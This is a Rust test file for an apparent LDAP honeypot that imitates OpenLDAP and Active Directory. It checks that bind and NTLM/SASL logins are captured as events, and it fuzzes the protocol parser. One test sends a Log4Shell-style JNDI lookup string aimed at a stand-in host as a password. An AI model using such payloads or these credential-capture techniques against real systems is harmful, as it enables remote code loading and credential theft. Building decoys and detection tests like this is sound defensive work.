//! Both products asked in bytes; slapd's answers were compared with a genuine 2.5.13.

use proptest::prelude::*;
use tokio::io::AsyncReadExt;

use super::*;
use crate::decoy::ntlm::tests::{answer, mirror, negotiate};
use crate::decoy::testing::{self, Client};
use crate::event::Event;

fn open(windows: bool, settings: &[(&str, &str)]) -> Client {
    let mut persona = testing::persona(&["ldap"]);
    let settings: Settings = settings.iter().map(|(k, v)| ((*k).to_owned(), (*v).into())).collect();
    if windows {
        persona.nmap_os = "windows_server".into();
        persona.hostname = "WIN-3T1QKJ6G0P2".into();
    }
    persona.services.insert("ldap".into(), settings.clone());
    testing::serve_on(build(&persona, &settings), 389)
}

/// Sends, and reads what comes until nothing comes, or the end: then with a dot behind it.
async fn ask(client: &mut Client, bytes: &[u8]) -> Vec<u8> {
    client.send(bytes).await;
    let mut got = Vec::new();
    let mut chunk = [0u8; 65_536];
    let wait = std::time::Duration::from_millis(60);
    while let Ok(Ok(n)) = tokio::time::timeout(wait, client.stream.read(&mut chunk)).await {
        if n == 0 {
            got.push(b'.');
            break;
        }
        got.extend_from_slice(&chunk[..n]);
    }
    got
}

fn logins(client: &Client) -> Vec<Event> {
    client.kept.events().into_iter().filter(|e| e.kind == Kind::Login).collect()
}

fn bind(name: &str, password: &str) -> Vec<u8> {
    let text = |kind, t: &str| ber::element(kind, t.as_bytes());
    let body = ber::group(0x60, &[ber::number(2, 3), text(4, name), text(0x80, password)]);
    ber::group(0x30, &[ber::number(2, 1), body])
}

fn search(base: &str, scope: u8, filter: &[u8], attributes: &[&str], paged: bool) -> Vec<u8> {
    let list: Vec<Vec<u8>> = attributes.iter().map(|a| ber::element(4, a.as_bytes())).collect();
    let body = ber::group(
        0x63,
        &[
            ber::element(4, base.as_bytes()),
            vec![10, 1, scope],
            vec![10, 1, 0],
            ber::number(2, 0),
            ber::number(2, 0),
            vec![1, 1, 0],
            filter.to_vec(),
            ber::group(0x30, &list),
        ],
    );
    let control = ber::group(0x30, &[ber::element(4, PAGED), vec![1, 1, 255]]);
    let controls = if paged { ber::group(0xa0, &[control]) } else { Vec::new() };
    ber::group(0x30, &[ber::number(2, 2), body, controls])
}

const ANY: &[u8] = b"\x87\x0bobjectClass";

fn has(bytes: &[u8], text: &str) -> bool {
    bytes.windows(text.len()).any(|w| w == text.as_bytes())
}

/// What was sent to a genuine slapd, and its answer; the dot at the end is a hang-up.
const GENUINE: &[(&str, &str)] = &[
    (
        "30840000002d02010763840000002404000a01000a0100020100020164010100870b6f626a656374436c617373308400000000",
        "3030020107642b040030273025040b6f626a656374436c61737331160403746f70040f4f70656e4c444150726f6f74445345300c02010765070a010004000400",
    ),
    (
        "300c020101600702010204008000",
        "304502010161400a010204000439686973746f726963616c2070726f746f636f6c2076657273696f6e207265717565737465642c20757365204c444150763320696e7374656164",
    ),
    (
        "300c020101600702010404008000",
        "3034020101612f0a0102040004287265717565737465642070726f746f636f6c2076657273696f6e206e6f7420737570706f72746564",
    ),
    ("300c020101600702010304008000", "300c02010161070a010004000400"),
    ("3012020101600d0201030405626164646e800178", "301602010161110a01220400040a696e76616c696420444e"),
    ("30110201016 00c0201030404636e3d78800178", "300c02010161070a013104000400"),
    (
        "300d020101600802010304008 10178",
        "302902010161240a01070400041d756e6b6e6f776e2061757468656e7469636174696f6e206d6574686f64",
    ),
    (
        "3011020101600c0201030400a3050403464f4f",
        "3044020101613f0a0107040004385341534c282d34293a206e6f206d656368616e69736d20617661696c61626c653a20436f756c646e27742066696e64206d65636820464f4f",
    ),
    (
        "300c020101600702010304008900",
        "302902010161240a01070400041d756e6b6e6f776e2061757468656e7469636174696f6e206d6574686f64",
    ),
    ("474554202f20485454502f312e300d0a0d0a", ""),
    ("1603010005010000010303", "2e"),
    ("300568656c6c6f", "2e"),
    (
        "30050201037d00",
        "303802010078330a010204000414756e6b6e6f776e204c44415020726571756573748a16312e332e362e312e342e312e313436362e32303033362e",
    ),
    ("30050201034200", "2e"),
    ("3006020103500101", ""),
    ("30847fffffff", "2e"),
    (
        "300b020104680604 02613d3000",
        "3022020104691d0a0102040004166e6f20617474726962757465732070726f7669646564",
    ),
    (
        "30080201044a03613d62",
        "30300201046b2b0a0108040004246d6f64696669636174696f6e7320726571756972652061757468656e7469636174696f6e",
    ),
    ("301e020104771980 17312e332e362e312e342e312e343230332e312e31312e33", "300e02010478090a0100040004008b00"),
    (
        "300c02010477078005312e322e33",
        "302a02010478250a01020400041e756e737570706f7274656420657874656e646564206f7065726174696f6e",
    ),
];

#[tokio::test]
async fn slapd_says_what_a_genuine_one_says() {
    for (request, answer) in GENUINE {
        let mut client = open(false, &[]);
        let got = ask(&mut client, &hex::decode(request.replace(' ', "")).unwrap()).await;
        assert_eq!(hex::encode(got), *answer, "{request}");
    }
}

#[tokio::test]
async fn slapd_is_read_by_anybody_and_logs_in_who_it_knows() {
    let mut client = open(false, &[("domain", "corp.lan"), ("user", "backup"), ("password", "s3cret")]);
    let all = ask(&mut client, &search("dc=corp,dc=lan", 2, ANY, &[], false)).await;
    assert!(has(&all, "uid=backup,ou=people,dc=corp,dc=lan") && has(&all, "posixGroup"));
    let none = ask(&mut client, &search("dc=example,dc=com", 2, ANY, &[], false)).await;
    assert_eq!(hex::encode(none), "300c02010265070a012004000400");
    let bad = ask(&mut client, &bind("cn=admin,dc=corp,dc=lan", "${jndi:ldap://203.0.113.9/a}")).await;
    assert_eq!(hex::encode(bad), "300c02010161070a013104000400");
    let good = ask(&mut client, &bind("uid=backup, ou=People,dc=corp,dc=lan", "s3cret")).await;
    assert_eq!(hex::encode(good), "300c02010161070a010004000400");
    let logins = logins(&client);
    assert_eq!(logins[0].secret.as_ref().unwrap().0, b"${jndi:ldap://203.0.113.9/a}");
    assert_eq!(
        (logins[0].outcome.as_deref(), logins[1].outcome.as_deref()),
        (Some("failure"), Some("success"))
    );
}

#[tokio::test]
async fn active_directory_tells_about_itself_alone() {
    let mut client = open(true, &[("domain", "corp.local")]);
    let probe = hex::decode(GENUINE[0].0).unwrap();
    let root = ask(&mut client, &probe).await;
    assert!(root.starts_with(&[0x30, 0x84, 0, 0]) && root[6..9] == [2, 1, 7]);
    let service = "CN=NTDS Settings,CN=WIN-3T1QKJ6G0P2,CN=Servers,CN=Default-First-Site-Name,CN=Sites,CN=Configuration,DC=corp,DC=local";
    assert!(has(&root, "dsServiceName1") && has(&root, service));
    let refused = ask(&mut client, &search("DC=corp,DC=local", 2, ANY, &[], false)).await;
    assert!(has(&refused, "000004DC: LdapErr: DSID-0C090A5C, comment: In order to perform"));
    let wrong = ask(&mut client, &bind("CORP\\Administrator", "Passw0rd")).await;
    assert!(has(
        &wrong,
        "80090308: LdapErr: DSID-0C090436, comment: AcceptSecurityContext error, data 52e, v3839\0"
    ));
    let garbage = ask(&mut client, b"\x30\x05hello").await;
    assert!(has(&garbage, "Error decoding ldap message") && garbage.ends_with(b"."));
}

#[tokio::test]
async fn active_directory_is_read_by_members() {
    let mut client =
        open(true, &[("domain", "corp.local"), ("user", "helpdesk"), ("password", "Summer2025!")]);
    for name in ["helpdesk@corp.local", "CORP\\helpdesk", "CN=helpdesk,CN=Users,DC=corp,DC=local"] {
        let good = ask(&mut client, &bind(name, "Summer2025!")).await;
        assert_eq!(
            hex::encode(good),
            "308400000010020101618400000007 0a010004000400".replace(' ', ""),
            "{name}"
        );
    }
    let filter = ber::group(0xa3, &[ber::element(4, b"objectClass"), ber::element(4, b"user")]);
    let found =
        ask(&mut client, &search("DC=corp,DC=local", 2, &filter, &["sAMAccountName", "objectSid"], true))
            .await;
    assert!(has(&found, "krbtgt") && has(&found, "helpdesk") && has(&found, "WIN-3T1QKJ6G0P2$"));
    assert!(
        has(&found, "ldap://ForestDnsZones.corp.local/") && found.windows(PAGED.len()).any(|w| w == PAGED)
    );
    assert!(!has(&found, "pwdLastSet"));
    let missing = ask(&mut client, &search("OU=x,DC=corp,DC=local", 0, ANY, &[], false)).await;
    assert!(has(&missing, "problem 2001 (NO_OBJECT)"));
    let elsewhere = ask(&mut client, &search("DC=example,DC=com", 2, ANY, &[], false)).await;
    assert!(has(&elsewhere, "ldap://example.com/DC=example,DC=com"));
    let add =
        ask(&mut client, &ber::group(0x30, &[ber::number(2, 4), ber::element(0x4a, b"CN=krbtgt")])).await;
    assert!(has(&add, "INSUFF_ACCESS_RIGHTS"));
}

fn sasl(name: &str, token: &[u8]) -> Vec<u8> {
    let sasl = ber::group(0xa3, &[ber::element(4, name.as_bytes()), ber::element(4, token)]);
    let body = ber::group(0x60, &[ber::number(2, 3), ber::element(4, b""), sasl]);
    ber::group(0x30, &[ber::number(2, 1), body])
}

fn sicily(kind: u8, token: &[u8]) -> Vec<u8> {
    let body = ber::group(0x60, &[ber::number(2, 3), ber::element(4, b"NTLM"), ber::element(kind, token)]);
    ber::group(0x30, &[ber::number(2, 1), body])
}

/// SPNEGO around a client's first token, and around the next.
fn spnego(first: bool, token: &[u8]) -> Vec<u8> {
    let token = ber::group(0xa2, &[ber::element(4, token)]);
    if !first {
        return ber::group(0xa1, &[ber::group(0x30, &[token])]);
    }
    let list = ber::group(0x30, &[ber::identifier(&[1, 3, 6, 1, 4, 1, 311, 2, 2, 10])]);
    let init = ber::group(0x30, &[ber::group(0xa0, &[list]), token]);
    ber::group(0x60, &[ber::identifier(&[1, 3, 6, 1, 5, 5, 2]), ber::group(0xa0, &[init])])
}

#[tokio::test]
async fn ntlm_is_captured_or_gets_in_in_each_wrapping() {
    let plain = |kind: &'static str| {
        move |first: bool, token: &[u8]| match kind {
            "sicily" => sicily(if first { 0x8a } else { 0x8b }, token),
            "spnego" => sasl("GSS-SPNEGO", &spnego(first, token)),
            kind => sasl(kind, token),
        }
    };
    for (windows, kind) in [(true, "sicily"), (true, "GSS-SPNEGO"), (true, "spnego"), (false, "NTLM")] {
        let wrap = plain(kind);
        for (password, ok) in [("Summer2025!", true), ("other", false)] {
            let account = [("domain", "corp.local"), ("user", "helpdesk"), ("password", "Summer2025!")];
            let mut client = open(windows, &account);
            let reply = ask(&mut client, &wrap(true, &negotiate())).await;
            let at = reply.windows(8).position(|w| w == b"NTLMSSP\0").expect("a challenge");
            let mut token = answer(&reply[at..], "helpdesk", "CORP", password);
            // Sign and seal were not asked for.
            token[60] &= !0x30;
            let last = ask(&mut client, &wrap(false, &token)).await;
            let login = logins(&client).pop().unwrap();
            assert_eq!(
                (login.user.unwrap().0, login.outcome.unwrap() == "success"),
                (b"helpdesk".to_vec(), ok)
            );
            assert_eq!(login.secret_kind, Some(SecretKind::NtlmV2));
            assert_eq!(
                (&login.fields["ntlm.domain"], &login.fields["ntlm.server_challenge"]),
                (&"CORP".into(), &hex::encode(&reply[at + 24..at + 32]).into())
            );
            assert_eq!(has(&last, "\x0a\x01\x31") || has(&last, "52e"), !ok, "{kind} {last:?}");
            let who =
                ber::group(0x30, &[ber::number(2, 2), ber::group(0x77, &[ber::element(0x80, WHO_AM_I)])]);
            let who = ask(&mut client, &who).await;
            assert_eq!(has(&who, "helpdesk"), ok, "{kind}");
        }
    }
}

#[tokio::test]
async fn after_a_login_that_asked_for_it_all_is_signed_and_enciphered() {
    let mut client = open(true, &[("user", "helpdesk"), ("password", "pw")]);
    let reply = ask(&mut client, &sasl("GSS-SPNEGO", &spnego(true, &negotiate()))).await;
    let at = reply.windows(8).position(|w| w == b"NTLMSSP\0").unwrap();
    let token = answer(&reply[at..], "helpdesk", "CORP", "pw");
    assert_eq!(token[60] & 0x30, 0x10, "it asks for signatures");
    ask(&mut client, &sasl("GSS-SPNEGO", &spnego(false, &token))).await;
    let mut ours = mirror(&token);
    let question = ber::group(0x30, &[ber::number(2, 2), ber::group(0x77, &[ber::element(0x80, WHO_AM_I)])]);
    let sealed = ours.wrap(&question);
    let length = u32::try_from(sealed.len()).unwrap().to_be_bytes();
    let got = ask(&mut client, &[&length[..], &sealed].concat()).await;
    assert_eq!(got[..4], u32::try_from(got.len() - 4).unwrap().to_be_bytes());
    let clear = ours.open(&got[4..]).expect("the server's signature");
    assert!(has(&clear, "\\helpdesk"), "{clear:?}");
    // A message that was changed on its way ends it.
    let mut sealed = ours.wrap(&question);
    sealed[20] ^= 1;
    assert_eq!(ask(&mut client, &[&length[..], &sealed].concat()).await, b".");
    assert!(
        client
            .kept
            .events()
            .iter()
            .any(|e| e.fields.get("error.message").is_some_and(|m| m == "wrong signature"))
    );
}

#[tokio::test]
async fn other_mechanisms_give_their_secrets_away() {
    let mut client = open(false, &[]);
    ask(&mut client, &sasl("PLAIN", b"\0alice\0pw")).await;
    let challenge = ask(&mut client, &sasl("CRAM-MD5", b"")).await;
    assert!(has(&challenge, "@files02."));
    ask(&mut client, &sasl("CRAM-MD5", b"carol 0123456789abcdef0123456789abcdef")).await;
    ask(&mut client, &sasl("DIGEST-MD5", b"")).await;
    ask(&mut client, &sasl("DIGEST-MD5", b"username=\"dave\",response=00")).await;
    let users: Vec<_> =
        logins(&client).into_iter().map(|e| String::from_utf8(e.user.unwrap().0).unwrap()).collect();
    assert_eq!(users, ["alice", "carol", "dave"]);
}

#[tokio::test]
async fn clear_text_before_the_handshake_is_dropped() {
    let mut client = open(false, &[]);
    let oid = ber::group(0x77, &[ber::element(0x80, START_TLS)]);
    let start = ber::group(0x30, &[ber::number(2, 9), oid]);
    let got = ask(&mut client, &[start, bind("cn=x", "smuggled")].concat()).await;
    assert_eq!(hex::encode(got), "300c02010978070a010004000400");
    assert!(logins(&client).is_empty());
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(96))]
    #[test]
    fn no_bytes_are_too_odd(
        which in 0..GENUINE.len(),
        at in 0usize..60,
        byte: u8,
        tail in proptest::collection::vec(any::<u8>(), 0..40),
        split in 0usize..80,
        windows: bool,
    ) {
        let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
        let mut bytes = hex::decode(GENUINE[which].0.replace(' ', "")).unwrap();
        if let Some(place) = bytes.get_mut(at) {
            *place = byte;
        }
        bytes.extend(tail);
        runtime.block_on(async {
            let mut client = open(windows, &[]);
            let at = split.min(bytes.len());
            client.send(&bytes[..at]).await;
            tokio::task::yield_now().await;
            use tokio::io::AsyncWriteExt;
            let _ = client.stream.write_all(&bytes[at..]).await;
            let _ = client.stream.shutdown().await;
            let mut rest = Vec::new();
            let _ = client.stream.read_to_end(&mut rest).await;
            for event in client.kept.events() {
                assert_ne!(event.action, "panic");
            }
        });
    }
}
